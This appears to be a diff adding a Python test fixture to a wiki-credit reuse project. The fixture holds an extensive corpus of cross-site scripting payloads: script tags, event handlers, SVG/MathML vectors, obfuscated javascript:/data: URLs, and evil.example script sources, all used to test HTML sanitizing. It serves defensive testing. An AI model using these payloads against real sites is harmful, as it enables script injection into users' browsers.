@@ -1,0 +1,286 @@
+"""A fixed corpus of hostile HTML for the reader and every writer (issue #11).
+
+Written for wikireuse from the well-known families of cross-site scripting
+vectors: attribute-quoting tricks, malformed and unclosed tags, entities,
+``javascript:``/``data:``/``vbscript:`` URLs (plain, entity-encoded,
+percent-encoded, split by whitespace and controls), SVG and MathML, comments,
+CDATA, raw-text elements, null bytes and backticks.
+
+``PAYLOADS`` is the whole corpus: the hand-written vectors, then each
+dangerous URL in each of the ways an attribute can carry it. It is run in
+full on every test run (parametrised, never sampled).
+"""
+
+from __future__ import annotations
+
+from typing import Final
+
+# -- hand-written vectors ---------------------------------------------------------
+
+_TAGS: Final = (
+    # the bug of issue #11 and its relatives: quotes the old tokeniser lost
+    "<a href=''0=' onclick=\"alert(1)\"></a>",
+    "<a href=''0=' onclick=\"alert(1)\"'>x</a>",
+    '<a href=""0=" onclick=\'alert(1)\'">x</a>',
+    "<a href=x' onclick='alert(1)'>x</a>",
+    '<a href="x"onclick="alert(1)">x</a>',
+    "<a href='x'onmouseover='alert(1)'>x</a>",
+    "<a/href=x/onclick=alert(1)>x</a>",
+    "<a\thref=x\nonclick=alert(1)>x</a>",
+    "<a href=x onclick=alert(1)//>x</a>",
+    '<a href="x" onclick=`alert(1)`>x</a>',
+    "<a href=`javascript:alert(1)`>x</a>",
+    '<a title="a" title="b" onclick="alert(1)">x</a>',
+    '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
+    '<a href="https://ok.example/"" onclick="alert(1)">ok</a>',
+    '<a href="https://ok.example/\'" onclick="alert(1)">ok</a>',
+    '<a href="https://ok.example/" style="background:url(javascript:alert(1))">ok</a>',
+    '<a href="https://ok.example/" target="_blank" rel="opener">ok</a>',
+    '<A HREF="https://ok.example/" ONCLICK="alert(1)">ok</A>',
+    '<a href="/wiki/User:A" onfocus="alert(1)" autofocus tabindex="1">A</a>',
+    "<a href=\"//commons.wikimedia.org/wiki/User:B\" onclick='alert(1)'>B</a>",
+    # scripts in every spelling
+    "<script>alert(1)</script>",
+    "<SCRIPT>alert(1)</SCRIPT>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=https://evil.example/x.js></script>",
+    "<script/src=https://evil.example/x.js></script>",
+    "<script\t>alert(1)</script\t>",
+    "<script>alert(1)",
+    "<script>alert('</scr' + 'ipt>')</script>",
+    "<script><!--alert(1)--></script>",
+    '<script type="text/plain">alert(1)</script>',
+    "<<script>alert(1)//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script>alert(1)</script >",
+    "</script><script>alert(1)</script>",
+    # event handlers on harmless-looking elements
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    '<img src="x" onerror="alert(1)"/>',
+    "<img src=x:alert(1) onerror=eval(src)>",
+    "<img/src=x/onerror=alert(1)>",
+    '<img src="x"onerror="alert(1)">',
+    '<img """><script>alert(1)</script>">',
+    "<IMG SRC=# onmouseover=\"alert('MARK')\">",
+    "<body onload=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<div onmouseover='alert(1)'>hover</div>",
+    '<span onclick="alert(1)">Ann</span>',
+    '<b onmouseenter="alert(1)">bold</b>',
+    '<p onpointerdown="alert(1)">para</p>',
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<keygen autofocus onfocus=alert(1)>",
+    '<details open ontoggle="alert(1)">',
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    '<body background="javascript:alert(1)">',
+    '<div style="width:expression(alert(1))">x</div>',
+    '<div style="background-image:url(javascript:alert(1))">x</div>',
+    "<x onclick=alert(1)>custom</x>",
+    "<custom-el onclick=alert(1)>custom</custom-el>",
+    # embedding and document-level elements
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    '<button formaction="javascript:alert(1)">go</button>',
+    '<base href="javascript:alert(1)//">',
+    '<link rel="stylesheet" href="javascript:alert(1)">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<style>*{background:url(javascript:alert(1))}</style>",
+    "<template><script>alert(1)</script></template>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<isindex action="javascript:alert(1)" type=image>',
+    '<html><head><title>MARK</title></head><body onload="alert(1)">x</body></html>',
+    # raw-text and RCDATA elements: their content is characters
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext><script>alert(1)</script>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<title><script>alert(1)</script></title>",
+    "<noembed><script>alert(1)</script></noembed>",
+    "<noframes><script>alert(1)</script></noframes>",
+    "<textarea></textarea><script>alert(1)</script>",
+    # SVG and MathML
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text x='0' y='9'>x</text></a></svg>",
+    '<svg><a href="javascript:alert(1)">svg link</a></svg>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><set attributeName=href to=javascript:alert(1)></set></svg>",
+    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
+    "<svg><title><script>alert(1)</script></title></svg>",
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction>",
+    '<math href="javascript:alert(1)">CLICK</math>',
+    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
+    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
+    # comments, CDATA, declarations, processing instructions
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<!-- --><script>alert(1)</script><!-- -->",
+    "<!--><script>alert(1)</script>-->",
+    "<!---><script>alert(1)</script>-->",
+    "<!-- --!><script>alert(1)</script>",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<![CDATA[]]><script>alert(1)</script>",
+    "<!DOCTYPE html><script>alert(1)</script>",
+    "<!x><script>alert(1)</script>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    '<? foo="><script>alert(1)</script>" ?>',
+    "<%<script>alert(1)</script>%>",
+    # unclosed, truncated and misnested tags
+    "<a href='x",
+    '<a href="https://ok.example/',
+    "<img src=x onerror=alert(1) ",
+    "<script",
+    "<scrip",
+    "<",
+    "</",
+    "<a",
+    "<a onclick=alert(1)",
+    "<b><i>Ann</b></i><script>alert(1)",
+    "<div><a href=https://ok.example/>Ann</div></a><img src=x onerror=alert(1)>",
+    "<table><script>alert(1)</script></table>",
+    "<table><td><img src=x onerror=alert(1)></td></table>",
+    "<p><svg><p><img src=x onerror=alert(1)></svg></p>",
+    "</p><script>alert(1)</script>",
+    "</a onclick=alert(1)>",
+    "<a href=https://ok.example/>Ann</a></a></a><script>alert(1)</script>",
+    "<select><option><script>alert(1)</script></option></select>",
+    "<a><a><a><a><a href=javascript:alert(1)>deep</a>",
+    "<b>" * 300 + "<img src=x onerror=alert(1)>",
+    # entities
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&#x3C;img src=x onerror=alert(1)&#x3E;",
+    "&#0000060;script&#0000062;alert(1)",
+    "&LT;script&GT;alert(1)",
+    "&lt<script>alert(1)</script>",
+    "&amp;lt;script&amp;gt;alert(1)",
+    '<a href="https://ok.example/?a=1&amp;b=2&quot; onclick=&quot;alert(1)">ok</a>',
+    "<a title='&#39; onclick=&#39;alert(1)'>x</a>",
+    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
+    "Ann &amp; Bob &#x26; Carol &nbsp;&copy; &bogus; &#xD800; &#0; &#x110000;",
+    # null bytes, controls, odd whitespace
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "<img src=x on\x00error=alert(1)>",
+    '<a href="java\x00script:alert(1)">x</a>',
+    "<img\x0csrc=x\x0conerror=alert(1)>",
+    "<img\x0bsrc=x onerror=alert(1)>",
+    "<a\u00a0onclick=alert(1)>x</a>",
+    "<a href=x\u2028onclick=alert(1)>x</a>",
+    "\ud800<script>alert(1)</script>",
+    "\x00\x01\x02<b>MARK</b>\x7f\x9b",
+    "\u202e<script>alert(1)</script>\u202c",
+    # backticks and template-looking text
+    "`<img src=x onerror=alert(1)>`",
+    "<img src=`x` onerror=`alert(1)`>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    # wiki-flavoured payloads: credits are written as wikitext and Markdown too
+    "</nowiki><script>alert(1)</script><nowiki>",
+    "<nowiki/>{{subst:MARK}}",
+    "[javascript:alert(1) click]",
+    "[[Special:MARK|<img src=x onerror=alert(1)>]]",
+    "[x](javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "![x](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "<https://evil.example/ onclick=alert(1)>",
+    "~~~~ <script>alert(1)</script>",
+    # a Commons-like Artist with a hostile part hidden in it
+    '<a href="//commons.wikimedia.org/wiki/User:Rama" title="User:Rama">Rama</a>'
+    '<img src=x onerror="alert(1)"> &amp; Musée Bolo',
+    '<span class="fn" id="creator"><a href="javascript:alert(1)">Edvard Munch</a>'
+    "<script>alert(1)</script></span>",
+    "<div class=\"vcard\"><span id='creator' onclick='alert(1)'>Munch</span></div>",
+    '<span style="display:none"><script>alert(1)</script></span>Ann',
+    '<a href="/wiki/User_talk:Ann" onclick="alert(1)">(talk)</a> Ann',
+)
+
+# -- dangerous URLs, and the ways an attribute carries them --------------------------
+
+_URLS: Final = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "JAVASCRIPT:alert(1)",
+    " javascript:alert(1)",
+    "\tjavascript:alert(1)",
+    "\njavascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "java\rscript:alert(1)",
+    "java\x00script:alert(1)",
+    "\x01javascript:alert(1)",
+    "javascript\t:alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6A;avascript:alert(1)",
+    "&#0000106&#0000097vascript:alert(1)",
+    "jav&#x09;ascript:alert(1)",
+    "jav&#x0A;ascript:alert(1)",
+    "jav&#9;ascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "javascript&#58;alert(1)",
+    "&Tab;javascript:alert(1)",
+    "javas&NewLine;cript:alert(1)",
+    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
+    "javascript%3Aalert(1)",
+    "javascript://%0Aalert(1)",
+    "javascript://https://ok.example/%0Aalert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "DATA:text/html,<script>alert(1)</script>",
+    " data:image/svg+xml,<svg onload=alert(1)>",
+    "&#100;ata:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "VBScript:msgbox(1)",
+    "vbs&#99;ript:msgbox(1)",
+    "livescript:alert(1)",
+    "mocha:alert(1)",
+    "file:///etc/passwd",
+    "filesystem:https://ok.example/x",
+    "blob:https://ok.example/x",
+    "ms-its:mhtml:file://c:/x.mht!https://evil.example/x",
+    "jar:https://evil.example/x!/",
+    "\\\\evil.example\\share",
+    "\\/\\/evil.example/x",
+    "/\\evil.example/x",
+    "https://ok.example@evil.example/",
+    "https://user:pw@evil.example/",
+    "https:evil.example",
+    "https:/\\evil.example",
+    "http://[::1",
+    'https://ok.example/"onmouseover="alert(1)',
+    "https://ok.example/'onmouseover='alert(1)",
+    "https://ok.example/<script>alert(1)</script>",
+)
+
+_CARRIERS: Final = (
+    '<a href="{}">link</a>',
+    "<a href='{}'>link</a>",
+    "<a href={}>link</a>",
+)
+
+
+def _quoted_for(carrier: str, url: str) -> str:
+    """*url* in *carrier*, its own quote characters escaped as entities."""
+    if carrier.startswith('<a href="'):
+        url = url.replace('"', "&quot;")
+    elif carrier.startswith("<a href='"):
+        url = url.replace("'", "&#39;")
+    return carrier.format(url)
+
+
+PAYLOADS: Final = _TAGS + tuple(
+    _quoted_for(carrier, url) for url in _URLS for carrier in _CARRIERS
+)
+"""Every payload, hand-written vectors first."""
